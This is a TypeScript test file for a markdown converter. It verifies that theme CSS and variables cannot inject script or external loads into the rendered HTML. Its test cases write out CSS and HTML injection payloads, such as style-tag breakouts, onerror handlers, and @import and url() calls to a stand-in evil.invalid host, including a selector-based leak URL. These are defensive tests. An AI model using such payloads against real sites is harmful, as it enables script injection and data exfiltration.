import {describe, expect, it} from 'vitest'
import {convert} from '../../src/convert.ts'
import {UserError} from '../../src/rules/user-error.ts'
import {dangers} from './inert.ts'
import {cssVectors} from './vectors-own.ts'

const markdown = '# 题\n\n正文 **粗** `码`\n\n- 项'

describe('a theme', () => {
  it.each(cssVectors)('cannot bring %s', async css => {
    for (const whole of [
      `p { ${css} }`,
      `p::before { content: "x"; ${css} }`,
      `:root { --a: ${css} } p { width: var(--a); background: var(--a) }`,
    ]) {
      const {html} = await convert(markdown, {theme: {css: whole}})
      expect(dangers(html)).toEqual([])
    }
  })

  it.each([
    '@import url(http://evil.invalid/a.css);',
    '@import "javascript:pwned()";',
    '@font-face { font-family: a; src: url(http://evil.invalid/a.woff) }',
    '@namespace url(http://evil.invalid/);',
    '@charset "utf-7"; p { color: red }',
    '</style><script>pwned()</script>',
    '<!-- p { color: red } --><img src=x onerror=pwned()>',
    'p::before { content: "</span><script>pwned()</script>" }',
    'p::after { content: "\\3c script\\3e pwned()" }',
    'p::after { content: url(http://evil.invalid/a.png) }',
    'p[style*="x"], p:has(a[href^="javascript"]) { background: url(http://evil.invalid/?leak) }',
    '/*\n@theme "><script>pwned()</script>\n*/ p { color: red }',
  ])('cannot bring %s', async css => {
    const {html} = await convert(markdown, {theme: {css}})
    expect(dangers(html)).toEqual([])
    expect(html).not.toMatch(/<script|<img|evil\.invalid/)
  })

  it.each([...cssVectors, '</style><script>pwned()</script>', 'red;}*{color:blue'])(
    'cannot be given %s for a variable',
    async value => {
      for (const variables of [{primary: value}, {'line-height': value}]) {
        const answers = await Promise.allSettled([
          convert(markdown, {variables}),
          convert(`${JSON.stringify({theme: {name: 'default', ...variables}})}\n\n${markdown}`),
        ])
        for (const answer of answers) {
          if (answer.status === 'fulfilled') expect(dangers(answer.value.html)).toEqual([])
          else expect(answer.reason).toBeInstanceOf(UserError)
        }
      }
    },
  )
})
